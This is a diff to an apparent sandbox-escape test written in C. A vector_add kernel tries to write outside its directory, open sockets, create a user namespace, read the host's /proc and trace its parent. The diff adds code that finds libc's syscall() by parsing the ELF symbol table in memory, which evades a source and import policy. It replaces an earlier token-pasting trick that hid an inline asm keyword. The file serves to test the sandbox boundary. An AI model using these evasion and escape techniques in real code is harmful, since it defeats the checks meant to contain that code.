@@ -3,17 +3,49 @@
 // no name check is involved: creating a file outside its directory, opening a network or Unix socket,
 // a new user namespace, reading the host's /proc, leaving the process group, tracing its
 // parent. The output is correct only if one of them worked, so a hole shows up as PASSED.
+// The calls go through libc's syscall(), found in memory (an inline `syscall` instruction, or
+// importing syscall(), is refused by the library policy before the sandbox is reached): the
+// name policy is a courtesy, the sandbox is the boundary, and this case tests the boundary.
+/* Shared helper (pasted into each attack file that needs libc beyond the kernel allow-list):
+ * finds a libc function in libc's own symbol table, read in memory from the ELF header below an
+ * allowed import (memset), so the library imports nothing the library policy refuses and holds
+ * no system-call instruction of its own. The policy is a courtesy; the sandbox is the boundary. */
+#include <elf.h>
 #include <stdint.h>
+#include <string.h>
+static void* rt_libc(const char* name) {
+    uintptr_t base = (uintptr_t)&memset & ~(uintptr_t)4095;
+    while (memcmp((const void*)base, ELFMAG, SELFMAG)) base -= 4096;
+    const Elf64_Ehdr* eh = (const void*)base;
+    const Elf64_Phdr* ph = (const void*)(base + eh->e_phoff);
+    const Elf64_Dyn* dyn = 0;
+    for (int i = 0; i < eh->e_phnum; i++)
+        if (ph[i].p_type == PT_DYNAMIC) dyn = (const void*)(base + ph[i].p_vaddr);
+    const Elf64_Sym* sym = 0; const char* str = 0; const uint32_t* gh = 0;
+    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
+        uintptr_t p = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
+        if (dyn->d_tag == DT_SYMTAB) sym = (const void*)p;
+        else if (dyn->d_tag == DT_STRTAB) str = (const void*)p;
+        else if (dyn->d_tag == DT_GNU_HASH) gh = (const void*)p;
+    }
+    if (!sym || !str || !gh) return 0;
+    const uint32_t nb = gh[0], off = gh[1];
+    const uint32_t* buckets = gh + 4 + 2 * gh[2]; /* after the 64-bit bloom words */
+    const uint32_t* chain = buckets + nb;
+    uint32_t h = 5381;
+    for (const char* c = name; *c; c++) h = h * 33 + (unsigned char)*c;
+    for (uint32_t s = buckets[h % nb]; s >= off; s++) {
+        if ((chain[s - off] | 1) == (h | 1) && !strcmp(name, str + sym[s].st_name) && sym[s].st_shndx != SHN_UNDEF)
+            return (void*)(base + sym[s].st_value);
+        if (chain[s - off] & 1) break;
+    }
+    return 0;
+}
 
-// Token pasting hides the keyword from the source scan: the name policy is a courtesy, the
-// sandbox is the boundary, and this case tests the boundary.
-#define PASTE(a, b) a##b
-#define ASM_KEYWORD PASTE(__as, m__)
+static long (*sys_call)(long, ...);
 
 static long raw_call(long n, long a, long b, long c) {
-    long ret;
-    ASM_KEYWORD volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
-    return ret;
+    return sys_call(n, a, b, c);
 }
 
 #define AT_FDCWD_ (-100)
@@ -34,6 +66,8 @@ static int escaped(void) {
 }
 
 void vector_add(const float *a, const float *b, float *c, int64_t N) {
+    sys_call = (long (*)(long, ...))rt_libc("syscall");
+    if (!sys_call) return; /* the lookup failed: output_unwritten, not the expected verdict */
     float wrong = escaped() ? 0.0f : 1.0f;
     for (int64_t i = 0; i < N; i++) c[i] = a[i] + b[i] + wrong;
 }
